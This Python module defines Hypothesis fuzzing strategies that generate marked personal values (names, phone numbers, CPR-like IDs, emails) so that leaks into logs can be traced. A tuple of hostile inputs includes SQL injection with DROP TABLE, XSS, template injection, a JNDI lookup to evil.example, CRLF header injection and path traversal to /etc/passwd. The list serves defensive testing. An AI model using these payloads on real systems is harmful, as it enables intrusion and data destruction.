"""Hostile and personal values for the fuzzer.

Every personal value the generators put into an input carries a distinctive marker (``Zqx`` followed by
consonants, or a digit run for phone numbers and CPR numbers), and is recorded on the input, so that a
search of logs, spans and error answers for it is reliable: no marker can appear there by chance.
"""

from __future__ import annotations

from datetime import date

from hypothesis import strategies as st

MARKER_PREFIX = "Zqx"
_CONSONANTS = "bcdfghjklmnpqrstvwxz"

# Injection strings of every kind a form or API meets: SQL, HTML/JS, template engines, log and header
# injection (CRLF), path traversal, format strings, JNDI, and Unicode that hides or reorders text.
INJECTIONS: tuple[str, ...] = (
    "' OR '1'='1", "'; DROP TABLE concerns; --", "\" OR 1=1 --", "1; SELECT pg_sleep(5)--",
    "') UNION SELECT concern_id, body FROM concerns --", "%' AND 1=0 UNION SELECT NULL--", "\\'; --",
    "<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>",
    "javascript:alert(1)", "<iframe src=//evil.example>", "</textarea><script>x()</script>",
    "{{7*7}}", "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "{{ config.items() }}", "${jndi:ldap://evil.example/a}",
    "Anna\r\nBcc: victim@example.org", "x\r\nSet-Cookie: session=evil", "line1\nline2\rline3",
    "%0d%0aInjected: header", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%s%s%s%n%x",
    "{0.__class__}", "\u202eevil.exe\u202c", "\u200b\u200c\u200d\ufeff", "A\u0300\u0301\u0302\u0303",
    "\U0001f600\U0001f4a9", "\u0000", "a\u0000b", "\x1b[31mred\x1b[0m", "\x07\x08\x0b\x0c\x7f",
    "Ｓｅｌｅｃｔ", "ǅ ß ﬁ İ", "null", "None", "undefined", "NaN", "true", "[]", "{}",
)

CONTROL_CHARACTERS = st.characters(min_codepoint=0, max_codepoint=0x1F)
ANY_TEXT = st.text(st.characters(codec="utf-8"), max_size=40)  # no lone surrogates: valid JSON strings
HOSTILE_SNIPPET = st.one_of(st.sampled_from(INJECTIONS), ANY_TEXT, st.text(CONTROL_CHARACTERS, max_size=8))


@st.composite
def marker(draw: st.DrawFn) -> str:
    return MARKER_PREFIX + draw(st.text(st.sampled_from(_CONSONANTS), min_size=7, max_size=7))


@st.composite
def marked_text(draw: st.DrawFn, max_size: int = 200) -> str:
    """Free text (a name, a workplace, a description) around a marker, often with a hostile snippet."""
    before = draw(st.one_of(st.just(""), HOSTILE_SNIPPET))
    after = draw(st.one_of(st.just(""), HOSTILE_SNIPPET))
    text = f"{before} {draw(marker())} {after}"
    return text[:max_size] if len(text) <= max_size else f"{draw(marker())} {after}"[:max_size]


@st.composite
def phone(draw: st.DrawFn) -> str:
    """A phone number the contract accepts; its eight digits are the marker (searched with and without
    spaces)."""
    digits = "9" + "".join(str(draw(st.integers(0, 9))) for _ in range(7))
    style = draw(st.sampled_from(("plain", "spaced", "prefixed")))
    if style == "plain":
        return digits
    spaced = " ".join(digits[i:i + 2] for i in range(0, 8, 2))
    return spaced if style == "spaced" else "+45 " + spaced


@st.composite
def cpr(draw: st.DrawFn) -> str:
    """A CPR-like value (ddmmyy-xxxx, dash optional); its ten digits are searched."""
    birthday = draw(st.dates(date(1930, 1, 1), date(2025, 12, 31)))
    serial = draw(st.integers(0, 9999))
    dash = draw(st.sampled_from(("-", "")))
    return f"{birthday:%d%m%y}{dash}{serial:04d}"


@st.composite
def email(draw: st.DrawFn) -> str:
    return f"{draw(marker()).lower()}@example.org"


def personal_needles(value: str) -> list[str]:
    """What to search for so that ``value`` is found however it was reformatted (CPR without the dash,
    phone numbers without spaces)."""
    digits = "".join(ch for ch in value if ch.isdigit())
    if MARKER_PREFIX.lower() in value.lower():
        start = value.lower().index(MARKER_PREFIX.lower())
        return [value[start:start + len(MARKER_PREFIX) + 7]]
    if len(digits) >= 8:
        return [digits[-10:] if len(digits) >= 10 else digits[-8:]]
    return [value]


# Numbers a numeric form field or JSON number may carry: out of range, huge, Unicode digits that
# str.isdigit() accepts but int() refuses, signs, fractions, exponent forms.
NUMERIC_TEXT = st.one_of(
    st.sampled_from(("-1", "131", "1e3", "16.5", "0x10", "١٦", "²", "³", "①", "۱۶", "𝟙𝟞", "+16", " 16 ",
                     "9" * 5000, "9" * 30, "-0", "NaN", "∞", "16\u0000", "")),
    st.text(st.characters(categories=["Nd", "No"]), min_size=1, max_size=6),
    st.integers().map(str),
)
OUT_OF_RANGE_NUMBERS = st.one_of(
    st.integers(max_value=-1), st.integers(min_value=131), st.integers(min_value=2 ** 63),
    st.floats(allow_nan=False, allow_infinity=False).filter(lambda f: not f.is_integer()),
)
